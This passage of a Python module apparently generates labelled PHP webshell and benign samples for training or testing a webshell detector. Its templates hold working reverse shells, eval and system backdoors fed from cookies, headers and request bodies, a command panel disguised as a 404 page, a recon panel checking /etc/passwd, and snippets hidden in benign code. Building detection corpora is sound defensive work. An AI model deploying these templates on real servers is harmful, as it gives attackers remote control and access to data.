        )
    elif kind == 1:
        body = f"$s = fsockopen({host_expr}, {port});\n$p = proc_open('sh', array(0 => $s, 1 => $s, 2 => $s), $pipes);"
    elif kind == 2:
        body = _t(
            """$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
if (@socket_connect($sock, ⟨host⟩, ⟨port⟩)) {
    socket_write($sock, php_uname() . "\\n");
    while ($cmd = socket_read($sock, 2048, PHP_NORMAL_READ)) {
        $out = shell_exec(trim($cmd) . ' 2>&1');
        socket_write($sock, (string) $out . '$ ');
    }
    socket_close($sock);
}""",
            host=host_expr,
            port=port,
        )
    else:
        body = _t(
            """$c = stream_socket_client('tcp://⟨host⟩:⟨port⟩', $errno, $errstr, 20);
if ($c) {
    fwrite($c, 'uid=' . getmyuid() . ' ' . php_uname() . "\\n");
    while (!feof($c)) {
        $line = trim((string) fgets($c));
        if ($line === 'exit') {
            break;
        }
        $h = popen($line . ' 2>&1', 'r');
        while (!feof($h)) {
            fwrite($c, fread($h, 1024));
        }
        pclose($h);
    }
    fclose($c);
}""",
            host=host,
            port=port,
        )
    return _ws_wrap(c, body, pad=0.35)


def _info_panel(c: _Ctx, size: int) -> str:
    r = c.r
    k = c.key()
    rows = [
        ("System", "php_uname()"),
        ("User", "get_current_user() . ' (' . getmyuid() . ')'"),
        ("PHP", "PHP_VERSION"),
        ("Server", "$_SERVER['SERVER_SOFTWARE'] ?? ''"),
        ("Disabled", "ini_get('disable_functions') ?: 'none'"),
        ("open_basedir", "ini_get('open_basedir') ?: 'none'"),
        ("Path", "getenv('PATH')"),
        ("Docroot", "$_SERVER['DOCUMENT_ROOT'] ?? getcwd()"),
        ("Free", "round(disk_free_space('/') / 1073741824, 2) . ' GB'"),
        ("Safe mode", "ini_get('safe_mode') ? 'on' : 'off'"),
    ]
    if r.chance(0.6):
        rows.append(
            (
                "posix",
                "function_exists('posix_getpwuid') ? json_encode(posix_getpwuid(posix_geteuid())) : '-'",
            )
        )
    rows = r.sample(rows, r.randint(5, len(rows)))
    body = [f"if (isset($_GET['{k}'])) {{\n    phpinfo();\n    exit;\n}}"] if r.chance(0.7) else []
    body.append("echo '<table border=\"1\">';")
    for name, expr in rows:
        body.append(
            f"echo '<tr><td>{name}</td><td>' . htmlspecialchars((string) ({expr})) . '</td></tr>';"
        )
    body.append(
        "foreach (array('system', 'exec', 'shell_exec', 'passthru', 'popen', 'proc_open', 'pcntl_exec') as $fn) {\n"
        "    echo '<tr><td>' . $fn . '</td><td>' . (function_exists($fn) && !in_array($fn, array_map('trim', explode(',', (string) ini_get('disable_functions')))) ? 'ON' : 'off') . '</td></tr>';\n"
        "}"
    )
    if r.chance(0.5):
        body.append(
            "foreach (array('/etc/passwd', '/etc/hosts', '/proc/version') as $f) {\n    echo '<tr><td>' . $f . '</td><td>' . (is_readable($f) ? 'readable' : '-') . '</td></tr>';\n}"
        )
    if r.chance(0.5):
        body.append(
            "echo '<tr><td>env</td><td><pre>' . htmlspecialchars(print_r(getenv(), true)) . '</pre></td></tr>';"
        )
    body.append("echo '</table>';")
    return _ws_wrap(c, "\n".join(body), pad=0.35)


def _hidden_snippet(c: _Ctx) -> str:
    r = c.r
    k = c.key()
    kind = r.randint(0, 6)
    if kind == 0:
        return f"if (isset($_REQUEST['{k}'])) {{\n    @eval(stripslashes($_REQUEST['{k}']));\n}}"
    if kind == 1:
        cookie = r.choice(("__utmz", "_ga_sess", "wp_cache", "PHPSESSID_", k))
        return f"if (!empty($_COOKIE['{cookie}'])) {{\n    @eval(base64_decode($_COOKIE['{cookie}']));\n}}"
    if kind == 2:
        v = "$_" + re.sub(r"\W", "", k) + "_"
        return f"{v} = isset($_POST['{k}']) ? $_POST['{k}'] : null;\nif ({v}) {{\n    echo shell_exec({v});\n}}"
    if kind == 3:
        pw = hashlib.md5(r.token(10).encode()).hexdigest()
        return f"if (md5($_GET['{k}'] ?? '') === '{pw}') {{\n    system($_GET['c']);\n}}"
    if kind == 4:
        return _layered_eval(c, _inner_payload(c), 1, allow_chr=False)
    if kind == 5:
        return f"array_map('ass' . 'ert', (array) ($_REQUEST['{k}'] ?? array()));"
    return f"$f = 'sys' . 'tem';\nif (isset($_GET['{k}'])) {{\n    $f($_GET['{k}']);\n}}"


def _hidden_in_benign(c: _Ctx, size: int) -> str:
    r = c.r
    host = r.choice(
        ("page", "class", "crud", "router", "functional", "cache", "api_client", "plugin_loader")
    )
    text = _BENIGN[host](c, max(2 * size, 10))
    slots = [m for m in _SLOT_LINE.finditer(text)]
    snippet = _hidden_snippet(c)
    if not slots:  # every host has slots; kept for safety
        html_at_end = text.rfind("?>") > text.rfind("<?php")
        tail = f"<?php {snippet} ?>" if html_at_end else snippet
        return text.rstrip("\n") + "\n" + tail + "\n"
    m = r.choice(slots)
    indent, kind = m.group(1), m.group(2)
    if kind == "H":
        repl = "<?php " + snippet.replace("\n", " ") + " ?>\n"
    else:
        repl = _indent(snippet, indent) + "\n"
    return text[: m.start()] + repl + text[m.end() :]


def _password_protected(c: _Ctx, size: int) -> str:
    r = c.r
    secret = r.token(r.randint(6, 14))
    alg = r.choice(("md5", "sha1", "sha256"))
    digest = hashlib.new(alg, secret.encode()).hexdigest()
    check = "hash('sha256', $_POST['pass'])" if alg == "sha256" else f"{alg}($_POST['pass'])"
    var = "$" + r.choice(("auth_pass", "pass_hash", "pw", "key", "secret"))
    panel_kind = r.randint(0, 2)
    if panel_kind == 0:
        runner = r.choice(("system", "passthru"))
        panel = f"if (!empty($_POST['c'])) {{\n    echo '<pre>';\n    {runner}($_POST['c'] . ' 2>&1');\n    echo '</pre>';\n}}\necho '<form method=\"post\"><input name=\"c\" size=\"90\"><input type=\"submit\"></form>';"
    elif panel_kind == 1:
        panel = 'if (!empty($_POST[\'code\'])) {\n    @eval($_POST[\'code\']);\n}\necho \'<form method="post"><textarea name="code" rows="12" cols="90"></textarea><input type="submit" value="run"></form>\';'
    else:
        panel = _file_manager_body(c, size, cmd=True)
    body = _t(
        """⟨var⟩ = '⟨digest⟩';
@session_start();
if (!empty($_POST['pass']) && ⟨check⟩ === ⟨var⟩) {
    $_SESSION['⟨sk⟩'] = 1;
}
if (empty($_SESSION['⟨sk⟩'])) {
    header('HTTP/1.0 404 Not Found');
    echo '<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><form method="post"><input type="password" name="pass" style="border:0;background:transparent"></form></body></html>';
    exit;
}
⟨panel⟩""",
        var=var,
        digest=digest,
        check=check,
        sk=r.token(6, "abcdefghijklmnopqrstuvwxyz"),
        panel=panel,
    )
    return _ws_wrap(c, body, pad=0.45)


def _alt_input(c: _Ctx, size: int) -> str:
    r = c.r
    k = c.key()
    header = r.choice(("X-Token", "X-Forwarded-Host", "Accept-Lang", "X-Api-Version", "Referer2"))
    server_key = "HTTP_" + header.upper().replace("-", "_")
    forms = (
        "@eval(file_get_contents('php://input'));",
        "$raw = file_get_contents('php://input');\nif ($raw) {\n    @eval(gzinflate(base64_decode($raw)));\n}",
        f"if (isset($_COOKIE['{k}'])) {{\n    @eval(base64_decode($_COOKIE['{k}']));\n}}",
        f"$h = getallheaders();\nif (isset($h['{header}'])) {{\n    echo shell_exec(base64_decode($h['{header}']));\n}}",
        f"if (!empty($_SERVER['{server_key}'])) {{\n    @assert(base64_decode($_SERVER['{server_key}']));\n}}",
        f"$c = $_COOKIE;\n$f = $c['{k}'] ?? '';\nif ($f !== '') {{\n    $f($c['{c.key()}'] ?? '');\n}}",
        "$in = json_decode(file_get_contents('php://input'), true);\nif (isset($in['c'])) {\n    system($in['c']);\n}",
        "if (strpos($_SERVER['HTTP_USER_AGENT'] ?? '', 'Mozilla/5.0 (x11)') === 0) {\n    @eval(str_rot13($_SERVER['HTTP_ACCEPT_LANGUAGE'] ?? ''));\n}",
    )
    return _ws_wrap(c, r.choice(forms), pad=0.5)


def _huge_obfuscated(c: _Ctx, target: int) -> str:
    """A packed file manager with ``~target`` bytes of embedded resources, in 1-3 layers."""
    r = c.r
    chain = _draw_chain(r, r.randint(1, 3))
    growth = 1.0
    for name in chain:
        growth *= {"base64": 4 / 3, "gzdeflate": 1.05, "gzcompress": 1.05, "hex": 2.0}.get(
            name, 1.0
        )
    blob_bytes = max(1024, int(target / growth * 0.75) - 8192)
    resources = []
    per = 48 * 1024
    raw = r.gen.bytes(blob_bytes)
    for i in range(0, blob_bytes, per):
        chunk = base64.b64encode(raw[i : i + per]).decode()
        resources.append(f"    'res{i // per}' => '{chunk}',")
    payload = (
        "$resources = array(\n" + "\n".join(resources) + "\n);\n"
        "if (isset($_GET['res'], $resources[$_GET['res']])) {\n"
        "    header('Content-Type: image/png');\n"
        "    echo base64_decode($resources[$_GET['res']]);\n"
        "    exit;\n"
        "}\n" + _file_manager_body(c, 8, cmd=True)
    )
    enc, decoders = encode_layers(payload, chain)
    calls = "".join(f + "(" for f in decoders)
    return f"<?php\n$__ = {php_single_quoted(enc)};\neval({calls}$__{')' * len(decoders)});\n"


_MALICIOUS: dict[str, Callable[[_Ctx, int], str]] = {
    "one_liner": _one_liner,
    "obfuscated": _obfuscated,
    "variable_function": _variable_function,
    "callback": _callback,
    "preg_replace_e": _preg_replace_e,
    "create_function": _create_function,
    "file_manager": _file_manager,
    "reverse_shell": _reverse_shell,
    "info_panel": _info_panel,
    "hidden_in_benign": _hidden_in_benign,
    "password_protected": _password_protected,
    "alt_input": _alt_input,
}


# --------------------------------------------------------------------------------------------
# Public API: generate, split, read, write


def _allocate(total: int, weights: Sequence[float]) -> list[int]:
    """Largest-remainder apportionment of ``total`` by ``weights`` (ties: first wins)."""
    wsum = float(sum(weights))
    if total == 0 or wsum <= 0:
        return [0] * len(weights)
    quotas = [total * w / wsum for w in weights]
    counts = [int(math.floor(q)) for q in quotas]
    order = sorted(range(len(weights)), key=lambda i: (-(quotas[i] - counts[i]), i))
    for i in order[: total - sum(counts)]:
        counts[i] += 1
    return counts


def _check_fraction(name: str, value: float) -> float:
    if not isinstance(value, int | float) or not 0.0 <= float(value) <= 1.0:
        raise ValueError(f"{name} must be a number in [0, 1], got {value!r}")
    return float(value)


def generate(
    n: int,
    *,
    seed: int,
    malicious_fraction: float = 0.5,
    huge_fraction: float = 0.0,
    huge_bytes: tuple[int, int] = HUGE_BYTES,
) -> list[Sample]:
    """``n`` labelled PHP samples in a seeded order; the same arguments give the same list.

    ``round(n * malicious_fraction)`` are WebShells, of which ``round(n * huge_fraction)``
    are ``huge_obfuscated`` files of ``huge_bytes[0]..huge_bytes[1]`` bytes (approximately);
    the rest of each label is shared among its families in the proportions of
    :func:`families`. Names are ``<webshell|benign>/<family>/<index>.php``, unique.
    """
    if isinstance(n, bool) or not isinstance(n, int | np.integer) or n < 0:
        raise ValueError(f"n must be a non-negative integer, got {n!r}")
    mal_frac = _check_fraction("malicious_fraction", malicious_fraction)
    huge_frac = _check_fraction("huge_fraction", huge_fraction)
    if huge_frac > mal_frac:
        raise ValueError(
            f"huge_fraction ({huge_frac}) counts WebShells, so it cannot exceed "
            f"malicious_fraction ({mal_frac})"
        )
    lo, hi = (int(v) for v in huge_bytes)
    if not 0 < lo <= hi:
        raise ValueError(f"huge_bytes must be (low, high) with 0 < low <= high, got {huge_bytes!r}")
    n = int(n)
    n_mal = int(round(n * mal_frac))
    n_huge = min(n_mal, int(round(n * huge_frac)))
    benign = [f for f in _FAMILIES if f.label == 0]
    malicious = [f for f in _FAMILIES if f.label == 1 and f.weight > 0]
    plan: list[str] = []
    for fams, total in ((benign, n - n_mal), (malicious, n_mal - n_huge)):
        for fam, k in zip(fams, _allocate(total, [f.weight for f in fams])):
            plan.extend([fam.name] * k)
    plan.extend(["huge_obfuscated"] * n_huge)
    master = np.random.default_rng([seed, 0])
    order = master.permutation(len(plan))
    huge_sizes = master.integers(lo, hi + 1, size=max(1, n_huge)).tolist()
    width = max(5, len(str(max(n - 1, 0))))
    labels = {f.name: f.label for f in _FAMILIES}
    out: list[Sample] = []
    h = 0
    for i, j in enumerate(order.tolist()):
        family = plan[j]
        c = _Ctx(_Rand(np.random.default_rng([seed, 1, i])))
        if family == "huge_obfuscated":
            text = _huge_obfuscated(c, huge_sizes[h])
            h += 1
        elif family in _TINY_FAMILIES and c.r.chance(_TINY_P):
            text = _tiny(c, family)
        elif family in _BENIGN:
            text = _BENIGN[family](c, c.r.lognormal_int(4.0, 0.9, 1, 60))
        else:
            text = _MALICIOUS[family](c, c.r.lognormal_int(3.0, 0.7, 1, 20))
        label = labels[family]
        name = f"{LABEL_DIRS[label]}/{family}/{i:0{width}d}.php"
        out.append(Sample(name, _finish(c, text), label, family))
    return out


def split(
    samples: Sequence[Sample], fractions: Sequence[float] = (0.6, 0.4), *, seed: int
) -> tuple[list[Sample], ...]:
    """Disjoint parts of ``samples`` in the given fractions, stratified by label and family.

    Each part gets, per label, its share within one sample, and per (label, family) within
    two samples. Parts keep the input order. Deterministic for a seed.
    """
    fr = [float(f) for f in fractions]
    if not fr or any(not math.isfinite(f) or f <= 0 for f in fr) or abs(sum(fr) - 1.0) > 1e-6:
        raise ValueError(f"fractions must be positive and sum to 1, got {tuple(fractions)!r}")
    rng = _Rand(np.random.default_rng([seed, 2]))
    part_of = [0] * len(samples)
    by_label: dict[int, dict[str, list[int]]] = {}
    for i, s in enumerate(samples):
        by_label.setdefault(int(s.label), {}).setdefault(s.family, []).append(i)
    for label in sorted(by_label):
        groups = by_label[label]
        ordered: list[int] = []
        for fam in rng.shuffle(sorted(groups)):
            ordered.extend(rng.shuffle(groups[fam]))
        counts = [0] * len(fr)
        start = rng.randint(0, len(fr) - 1)  # tie-break rotation, so small groups vary
        for pos, idx in enumerate(ordered):
            deficits = [(pos + 1) * f - k for f, k in zip(fr, counts)]
            best = max(range(len(fr)), key=lambda p: (deficits[p], -((p - start) % len(fr))))
            counts[best] += 1
            part_of[idx] = best
    parts: tuple[list[Sample], ...] = tuple([] for _ in fr)
    for i, s in enumerate(samples):
        parts[part_of[i]].append(s)
    return parts


def _layout_error(root: str, problem: str, extensions: Sequence[str]) -> FileNotFoundError:
    return FileNotFoundError(
        f"{problem} (corpus root {root!r})\n" + LAYOUT.format(extensions=tuple(extensions))
    )


def _iter_files(top: str) -> Iterable[str]:
    """Regular files under ``top`` in sorted order, without recursion or following dir links."""
    stack = [top]
    while stack:
        d = stack.pop()
        try:
            entries = sorted(os.scandir(d), key=lambda e: e.name)
        except OSError as e:
            log.warning("skipping directory %s: %s", d, e)
            continue
        subdirs = []
        for e in entries:
            try:
                if e.is_dir(follow_symlinks=False):
                    subdirs.append(e.path)
                elif e.is_symlink() and e.is_dir():
                    log.warning("not following directory link %s", e.path)
                elif e.is_file() or e.is_symlink():  # a dangling link is reported when read
                    yield e.path
            except OSError as err:
                log.warning("skipping %s: %s", e.path, err)
        stack.extend(reversed(subdirs))


def read_corpus(
    root: str | os.PathLike,
    *,
    extensions: Sequence[str] = EXTENSIONS,
    max_bytes: int = php.MAX_BYTES,
    keep_binary: bool = False,
) -> list[Sample]:
    """Reads ``root/webshell/**`` (label 1) and ``root/benign/**`` (label 0).

    Names are paths relative to ``root`` with ``/`` separators; the family is the first
    directory level under ``webshell/`` or ``benign/`` (the label directory's name for files
    directly in it). Files longer than ``max_bytes`` are truncated (logged); unreadable
    files, and binary ones unless ``keep_binary``, are skipped with a logged warning.
    """
    root = os.fspath(root)
    exts = tuple(e.lower() for e in extensions)
    if not exts or any(not isinstance(e, str) or not e.startswith(".") for e in exts):
        raise ValueError(
            f"extensions must be non-empty strings starting with '.', got {extensions!r}"
        )
    if not os.path.isdir(root):
        raise _layout_error(root, "corpus root is not a directory", exts)
    missing = [d for d in LABEL_DIRS.values() if not os.path.isdir(os.path.join(root, d))]
    if missing:
        raise _layout_error(
            root, f"missing subdirectory {', '.join(m + '/' for m in missing)}", exts
        )
    out: list[Sample] = []
    for label in (1, 0):
        top = os.path.join(root, LABEL_DIRS[label])
        for path in _iter_files(top):
            if not path.lower().endswith(exts):
                continue
            rel = os.path.relpath(path, root).replace(os.sep, "/")
            parts = rel.split("/")
            family = parts[1] if len(parts) > 2 else LABEL_DIRS[label]
            src = php.read_source(path, name=rel, max_bytes=max_bytes)
            if src.skipped and not (keep_binary and src.skipped.startswith("binary")):
                log.warning("skipping %s: %s", rel, src.skipped)
                continue
            for note in src.notes:
                log.info("%s: %s", rel, note)
            out.append(Sample(rel, src.data, label, family))
    return out


_SAFE_COMPONENT = re.compile(r"^[A-Za-z0-9._+-]+$")


def _target_path(s: Sample) -> str:
    if s.label not in LABEL_DIRS:
        raise ValueError(f"sample {s.name!r}: label must be 0 or 1, got {s.label!r}")
    top = LABEL_DIRS[s.label]
    if not _SAFE_COMPONENT.match(s.family) or s.family in (".", ".."):
        raise ValueError(f"sample {s.name!r}: family {s.family!r} is not a safe directory name")
    prefix = top if s.family == top else f"{top}/{s.family}"
    name = s.name.replace("\\", "/")
    if name.startswith(prefix + "/"):
        rest = name[len(prefix) + 1 :]
    else:
        rest = name.rsplit("/", 1)[-1]
    pieces = rest.split("/")
    if any(not _SAFE_COMPONENT.match(p) or p in (".", "..") for p in pieces):
        rest = re.sub(r"[^A-Za-z0-9._+-]", "_", name.strip("/")).strip(".") or "sample"
        pieces = [rest]
    if not pieces[-1].lower().endswith(EXTENSIONS):
        pieces[-1] += ".php"
    return prefix + "/" + "/".join(pieces)


def write_corpus(samples: Iterable[Sample], root: str | os.PathLike) -> list[str]:
    """Writes ``samples`` in the :func:`read_corpus` layout; returns the paths written.

    A sample named ``<label dir>/<family>/...`` keeps its path; others are written as
    ``<label dir>/<family>/<basename>`` (``.php`` appended when the extension would not be
    read back). Two samples mapping to the same path are an error (nothing is written).
    """
    root = os.fspath(root)
    targets: dict[str, Sample] = {}
    for s in samples:
        rel = _target_path(s)
        if rel in targets:
            raise ValueError(f"samples {targets[rel].name!r} and {s.name!r} both map to {rel!r}")
        targets[rel] = s
    for d in LABEL_DIRS.values():
        os.makedirs(os.path.join(root, d), exist_ok=True)
    written = []
    for rel, s in targets.items():
        path = os.path.join(root, *rel.split("/"))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(s.data)
        written.append(path)
    return written


def stats(samples: Iterable[Sample]) -> dict[str, dict[str, float]]:
    """Per family: label, count and mean/min/max size in bytes (for reports)."""
    acc: dict[str, list] = {}
    for s in samples:
        a = acc.setdefault(s.family, [s.label, 0, 0, None, 0])
        a[1] += 1
        a[2] += len(s.data)
        a[3] = len(s.data) if a[3] is None else min(a[3], len(s.data))
        a[4] = max(a[4], len(s.data))
    return {
        fam: {
            "label": a[0],
            "count": a[1],
            "mean_bytes": a[2] / a[1],
            "min_bytes": a[3],
            "max_bytes": a[4],
        }
        for fam, a in sorted(acc.items(), key=lambda kv: (-kv[1][0], kv[0]))
    }


__all__ = [
    "EXTENSIONS",
    "LABEL_DIRS",
    "LAYERS",
    "Family",
    "Sample",
    "encode_layers",
    "families",
    "generate",
    "php_single_quoted",
    "read_corpus",
    "split",
    "stats",
    "write_corpus",
]
